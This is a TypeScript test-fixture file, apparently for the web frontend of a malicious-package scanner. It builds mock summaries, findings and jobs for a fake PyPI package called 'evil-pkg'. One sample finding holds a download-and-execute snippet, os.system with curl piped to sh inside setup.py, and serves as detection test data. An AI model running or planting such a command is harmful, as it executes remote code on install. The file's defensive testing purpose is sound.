import type { AnalysisSummary, Finding, Job, Report } from '../lib/api-types';
import { makeJob } from './fixtures';

let counter = 0;

export function makeSummary(overrides: Partial<AnalysisSummary> = {}): AnalysisSummary {
  return {
    verdict: 'malicious',
    score: 9.2,
    package: { ecosystem: 'pypi', name: 'evil-pkg', version: '1.0.0', purl: 'pkg:pypi/evil-pkg@1.0.0' },
    artifacts: [{ filename: 'evil-pkg-1.0.0.tar.gz', sha256: 'a'.repeat(64), size: 2048 }],
    findings: 1,
    by_severity: { critical: 1, high: 0, medium: 0, low: 0 },
    rules_version: '2026.11.1',
    cached: false,
    provenance: { source: 'registry', registry: 'https://index.example.invalid/simple/', verified: true, claimed: false, filename: null },
    seconds: 0.42,
    report: '/jobs/00000000-0000-4000-8000-000000000001/report',
    ...overrides,
  };
}

export function makeFinding(overrides: Partial<Finding> = {}): Finding {
  counter += 1;
  return {
    rule: `PY-TEST-${counter}`,
    title: 'Runs a shell command at install time',
    category: 'download-exec',
    severity: 'critical',
    file: 'evil-pkg-1.0.0/setup.py',
    line: counter,
    snippet: "os.system('curl http://x | sh')",
    reachability: 'install',
    artifact: 'a'.repeat(64),
    explanation: 'setup.py runs on pip install; this downloads and runs a script.',
    end_line: null,
    chain: [],
    decoded: '',
    count: 1,
    baseline: '',
    ...overrides,
  };
}

/** A report with `count` findings spread over the severities. */
export function makeReport(count: number, overrides: Partial<Report> = {}): Report {
  const severities = ['critical', 'high', 'medium', 'low'] as const;
  const findings = Array.from({ length: count }, (_, i) =>
    makeFinding({ severity: severities[i % 4], rule: `RULE-${i % 7}`, title: `Rule ${i % 7} matched`, line: i + 1 }),
  );
  const by_severity = { critical: 0, high: 0, medium: 0, low: 0 };
  for (const f of findings) by_severity[f.severity] += 1;
  const job = reportJobIdOf(overrides.report) ?? '00000000-0000-4000-8000-000000000001';
  return { ...makeSummary(), by_severity, job, suppressed: [], notes: [], ...overrides, findings };
}

function reportJobIdOf(link: string | undefined): string | null {
  return /\/jobs\/([^/]+)\/report$/.exec(link ?? '')?.[1] ?? null;
}

/** A completed analysis job with `summary` as its result. */
export function analysisJob(overrides: Partial<Job> = {}, summary: Partial<AnalysisSummary> = {}): Job {
  return makeJob({
    task: 'analyze',
    params: { purl: 'pkg:pypi/evil-pkg@1.0.0', force: false },
    status: 'completed',
    attempts: 1,
    progress: 1,
    worker: 'worker-1',
    result: makeSummary(summary),
    completed_at: '2026-11-25T12:01:00Z',
    ...overrides,
  });
}

/** An analysis job that failed: the package could not be analysed. */
export function failedAnalysisJob(overrides: Partial<Job> = {}): Job {
  return makeJob({
    task: 'analyze',
    params: { purl: 'pkg:pypi/cut-pkg@1.0.0', force: false },
    status: 'failed',
    attempts: 1,
    worker: 'worker-1',
    error: 'Archive is truncated or corrupt (gzip): Compressed file ended before the end-of-stream marker was reached',
    completed_at: '2026-11-25T12:01:00Z',
    ...overrides,
  });
}
